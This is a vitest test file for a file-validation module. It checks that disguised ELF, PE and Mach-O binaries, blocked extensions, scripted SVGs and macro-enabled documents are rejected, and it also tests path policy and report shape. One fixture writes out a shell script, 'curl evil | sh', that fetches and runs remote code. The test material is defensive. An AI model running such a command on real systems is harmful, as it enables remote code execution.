import { createHash } from 'node:crypto';
import fs from 'node:fs/promises';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { PathPolicy } from '../../../../src/core/files/types.js';
import {
  DEFAULT_ALLOWED_MIME_TYPES,
  DEFAULT_BLOCKED_EXTENSIONS,
  inspectFile,
  toValidationReport,
  type FileInspection,
  type RuleConfig,
} from '../../../../src/core/validate/index.js';
import { docxBytes, elfBytes, machOBytes, makeTempDir, pdfBytes, peBytes, pngBytes, writeFixture, zipBytes } from '../../../fixtures/files.js';

let dir: string;
let policy: PathPolicy;
const rules: RuleConfig = {
  maxFileSize: 1024 * 1024,
  allowedMimeTypes: DEFAULT_ALLOWED_MIME_TYPES,
  blockedExtensions: DEFAULT_BLOCKED_EXTENSIONS,
  allowActiveContent: false,
};

beforeAll(async () => {
  dir = await makeTempDir('exai-validate-');
  policy = { roots: [dir], allowExternal: false, allowHardlinks: false, cwd: dir };
});

afterAll(async () => {
  await fs.rm(dir, { recursive: true, force: true });
});

async function inspect(name: string, content: string | Buffer, cfg: RuleConfig = rules): Promise<FileInspection> {
  await writeFixture(dir, name, content);
  return inspectFile(name, { policy, rules: cfg });
}

const names = (inspection: FileInspection): string[] => inspection.errors.map((error) => error.name);

describe('inspectFile', () => {
  it('accepts a real minimal PDF named X.PDF', async () => {
    const result = await inspect('X.PDF', pdfBytes());
    expect(names(result)).toEqual([]);
    expect(result.valid).toBe(true);
    expect(result.facts).toMatchObject({ mimeType: 'application/pdf', extension: '.pdf', kind: 'binary' });
    expect(result.facts?.read.sha256).toMatch(/^[0-9a-f]{64}$/);
  });

  it('rejects an ELF binary named .txt as executable content', async () => {
    const result = await inspect('notes.txt', elfBytes());
    expect(result.valid).toBe(false);
    expect(names(result)).toContain('EXECUTABLE_CONTENT');
  });

  it('rejects a PE named .pdf as executable content', async () => {
    const result = await inspect('invoice.pdf', peBytes());
    expect(names(result)).toContain('EXECUTABLE_CONTENT');
  });

  it('rejects a Mach-O and a #! script whatever they are called', async () => {
    expect(names(await inspect('photo.png', machOBytes()))).toContain('EXECUTABLE_CONTENT');
    expect(names(await inspect('readme.txt', '#!/bin/sh\ncurl evil | sh\n'))).toContain('EXECUTABLE_CONTENT');
  });

  it('rejects x.pdf.exe by its blocked extension', async () => {
    const result = await inspect('x.pdf.exe', pdfBytes());
    expect(names(result)).toEqual(['BLOCKED_EXTENSION']);
    expect(result.errors[0]?.message).toContain('.exe');
  });

  it('accepts a UTF-8 Markdown file that starts with "MZ" as text/markdown', async () => {
    const result = await inspect('mz-notes.md', 'MZ is the DOS header magic.\n\nThis file is Markdown — ünïcödé.\n');
    expect(names(result)).toEqual([]);
    expect(result.facts).toMatchObject({ mimeType: 'text/markdown', kind: 'text', executable: false });
  });

  it('rejects an SVG with a script as active content', async () => {
    const svg = '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>\n';
    expect(names(await inspect('logo.svg', svg))).toEqual(['ACTIVE_CONTENT']);
    // Renamed, it is still SVG.
    expect(names(await inspect('logo.txt', svg))).toContain('ACTIVE_CONTENT');
    // Allowed when the config says so.
    const allowed = await inspect('logo2.svg', svg, { ...rules, allowActiveContent: true });
    expect(allowed.valid).toBe(true);
    expect(allowed.facts?.mimeType).toBe('image/svg+xml');
  });

  it('reports every broken rule, not just the first', async () => {
    const result = await inspect('huge.exe', Buffer.alloc(rules.maxFileSize + 10, 0x41), rules);
    expect(names(result)).toEqual(expect.arrayContaining(['FILE_TOO_LARGE', 'BLOCKED_EXTENSION']));
  });

  it('rejects a PNG named .pdf as a mismatch', async () => {
    const result = await inspect('scan.pdf', pngBytes());
    expect(names(result)).toEqual(['EXTENSION_MISMATCH']);
  });

  it('turns path errors into entries instead of throwing', async () => {
    const outside = await makeTempDir('exai-outside-');
    await writeFixture(outside, 'elsewhere.pdf', pdfBytes());
    const result = await inspectFile(path.join(outside, 'elsewhere.pdf'), { policy, rules });
    await fs.rm(outside, { recursive: true });
    expect(result.valid).toBe(false);
    expect(names(result)).toEqual(['PATH_OUTSIDE_ROOTS']);
    const missing = await inspectFile('missing.pdf', { policy, rules });
    expect(names(missing)).toEqual(['PATH_NOT_FOUND']);
    expect(missing.facts).toBeUndefined();
  });

  it('hands back the open handle only with keepOpen and a valid file', async () => {
    await writeFixture(dir, 'keep.md', '# keep\n');
    const kept = await inspectFile('keep.md', { policy, rules, keepOpen: true });
    expect(kept.opened).toBeDefined();
    const { bytesRead } = (await kept.opened?.handle.read(Buffer.alloc(16), 0, 16, 0)) ?? { bytesRead: 0 };
    expect(bytesRead).toBe(7);
    await kept.opened?.handle.close();
    const rejected = await inspectFile('x.pdf.exe', { policy, rules, keepOpen: true });
    expect(rejected.opened).toBeUndefined();
  });
});

describe('inspectFile on small and large files', () => {
  it('reports a file past the synchronous read size the same way as a small one', async () => {
    const line = 'plain text, read in one pass or streamed\n';
    const big = line.repeat(Math.ceil((1.5 * 1024 * 1024) / line.length));
    const large = await inspect('large.txt', big, { ...rules, maxFileSize: 4 * 1024 * 1024 });
    const small = await inspect('small.txt', line);
    expect(large.valid).toBe(true);
    expect(large.facts).toMatchObject({ size: Buffer.byteLength(big), mimeType: 'text/plain', kind: 'text' });
    expect(large.facts?.read.sha256).toBe(createHash('sha256').update(big).digest('hex'));
    expect(small.facts?.read.sha256).toBe(createHash('sha256').update(line).digest('hex'));
  });

  it('judges each of many documents read at once by its own directory, past the 64 KiB head', async () => {
    // Zips whose directories lie past the head, half of them macro-enabled under a .docx name:
    // read side by side, each pass holds its own buffer, so no verdict can come from another file.
    const docm = (i: number): Buffer => zipBytes([['media/blob.bin', Buffer.alloc(80_000 + i, i)], ['[Content_Types].xml', '<Types/>'], ['word/document.xml', '<w:document/>'], ['word/vbaProject.bin', 'macros']]);
    const files = Array.from({ length: 12 }, (_, i) => ({ name: `batch${i}.docx`, bytes: i % 2 === 0 ? docxBytes(80_000 + i) : docm(i) }));
    for (const { name, bytes } of files) await writeFixture(dir, name, bytes);
    const results = await Promise.all(files.map(({ name }) => inspectFile(name, { policy, rules })));
    for (const [i, result] of results.entries()) {
      expect(result.facts?.read.sha256).toBe(createHash('sha256').update(files[i]!.bytes).digest('hex'));
      expect(result.facts?.activeContent).toBe(i % 2 === 1);
      if (i % 2 === 0) expect(result).toMatchObject({ valid: true, facts: { mimeType: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document' } });
    }
  });

  it('lets timers run during a long batch of small files (signals and lock heartbeats need the loop)', async () => {
    await writeFixture(dir, 'tick.md', '# tick\n');
    let fired = false;
    const timer = setTimeout(() => {
      fired = true;
    }, 1);
    let inspected = 0;
    while (!fired && inspected < 20_000) {
      await inspectFile('tick.md', { policy, rules });
      inspected++;
    }
    clearTimeout(timer);
    expect(fired).toBe(true);
  });
});

describe('toValidationReport', () => {
  it('has exactly the documented shape', async () => {
    const ok = toValidationReport(await inspect('report.md', '# hi\n'));
    expect(ok).toEqual({
      path: 'report.md',
      valid: true,
      errors: [],
      metadata: { size: 5, mime_type: 'text/markdown', extension: '.md', sha256: expect.stringMatching(/^[0-9a-f]{64}$/) },
    });
    const bad = toValidationReport(await inspectFile(path.join('nope', 'gone.pdf'), { policy, rules }));
    expect(bad).toEqual({
      path: 'nope/gone.pdf',
      valid: false,
      errors: [{ code: 2002, name: 'PATH_NOT_FOUND', message: expect.stringContaining('nope/gone.pdf'), hint: expect.any(String) as unknown }],
      metadata: { size: null, mime_type: null, extension: '.pdf', sha256: null },
    });
  });
});
